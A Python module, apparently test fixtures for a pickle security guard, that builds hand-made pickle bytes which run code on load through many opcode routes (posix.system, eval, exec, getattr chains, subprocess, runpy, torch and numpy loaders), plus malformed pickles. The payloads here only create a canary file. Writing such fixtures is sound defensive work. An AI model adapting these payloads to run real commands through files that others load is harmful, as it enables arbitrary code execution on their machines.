"""Pickles that run code when nothing guards them, one for each way in which pickle can call."""

from __future__ import annotations

import struct
from pathlib import Path


def text(value: str) -> bytes:
    """The opcode that puts a string on the stack."""
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def name(module: str, attribute: str) -> bytes:
    """The opcode that looks a name up."""
    return f"c{module}\n{attribute}\n".encode()


def touching(canary: Path) -> dict[str, bytes]:
    """Pickles, by what they are made with, that make the file `canary`."""
    shell = text(f"touch '{canary}'")
    python = text(f"open({str(canary)!r}, 'w').close()")
    system = name("posix", "system")
    run = name("builtins", "exec")
    call = system + b"(" + shell + b"tR."
    # `map` calls nothing before `tuple` takes from it.
    lazily = name("builtins", "map") + b"(" + run + b"(" + python + b"lt"
    eager = name("builtins", "tuple")
    namespace = name("argparse", "Namespace") + b")\x81"
    chained = (
        name("builtins", "getattr")
        + (b"(" + name("builtins", "__import__") + b"(" + text("os") + b"tR" + text("system"))
        + b"tR("
        + shell
        + b"tR."
    )
    return {
        "reduce-of-a-global": call,
        "reduce-of-a-stack-global": b"\x80\x04"
        + (text("posix") + text("system") + b"\x93" + shell + b"\x85R."),
        "reduce-of-eval": name("builtins", "eval") + b"(" + python + b"tR.",
        "reduce-of-exec": run + b"(" + python + b"tR.",
        "inst": b"(" + shell + b"iposix\nsystem\n.",
        "obj": b"(" + system + shell + b"o.",
        "newobj": eager + b"(" + lazily + b"\x81t\x81.",
        "newobj-ex": b"\x80\x04" + eager + b"(" + lazily + b"}\x92t}\x92.",
        # The state of an object names the function that is called with its next state.
        "build": namespace + b"}" + text("__setstate__") + system + b"sb" + shell + b"b.",
        "getattr": chained,
        "a-dictionary-of-it": b"}" + text("state_dict") + system + b"(" + shell + b"tRs.",
        "memoised": system + b"q\x00(" + shell + b"q\x01tR0h\x00(h\x01tR.",
        "framed": b"\x80\x04\x95" + struct.pack("<Q", len(call)) + call,
        "protocol-0": b"cposix\nsystem\n(S" + repr(f"touch '{canary}'").encode() + b"\ntR.",
        "subprocess": name("subprocess", "getoutput") + b"(" + shell + b"tR.",
        "run-a-file": name("runpy", "run_path") + b"(" + text(f"{canary}.payload.py") + b"tR.",
        "timeit": name("timeit", "timeit") + b"(" + text("pass") + python + b"tR.",
        "nested": name("pickle", "loads") + b"(" + _bytes(call) + b"tR.",
        "of-torch": name("torch.storage", "_load_from_bytes") + (b"(" + _bytes(call) + b"tR."),
        "numpy-objects": name("numpy", "load")
        + (b"(" + text(f"{canary}.payload.npy") + b"N" + b"\x88" + b"tR."),
    }


def of_extensions() -> dict[str, bytes]:
    """Pickles that ask for a class by its number in Python's registry of them."""
    arguments = b"(" + text("true") + b"tR."
    return {
        "ext-1": b"\x80\x02\x82\xf0" + arguments,
        "ext-2": b"\x80\x02\x83\xf0\xf0" + arguments,
        "ext-4": b"\x80\x02\x84\xf0\xf0\xf0\x00" + arguments,
    }


def broken() -> dict[str, bytes]:
    """Pickles that are no pickles, or that ask for more than there is."""
    return {
        "persistent-id": b"Pposix system\n.",
        "binary-persistent-id": text("posix system") + b"Q.",
        "storage-of-a-function": b"("
        + (text("storage") + name("posix", "system") + text("0") + text("cpu") + b"K\x04tQ."),
        "empty": b"",
        "no-stop": b"}",
        "of-the-future": b"\x80\xff" + name("posix", "system") + b".",
        "nested-deeply": b"(" * 200_000 + b".",
        "long-bytes": b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + b".",
        "long-string": b"X\xff\xff\xff\x7f.",
        "unknown-opcode": b"\xfe.",
        "stack-underrun": b"R.",
        "memo-underrun": b"h\x09.",
    }


def _bytes(value: bytes) -> bytes:
    return b"\x80\x04B" + struct.pack("<I", len(value)) + value
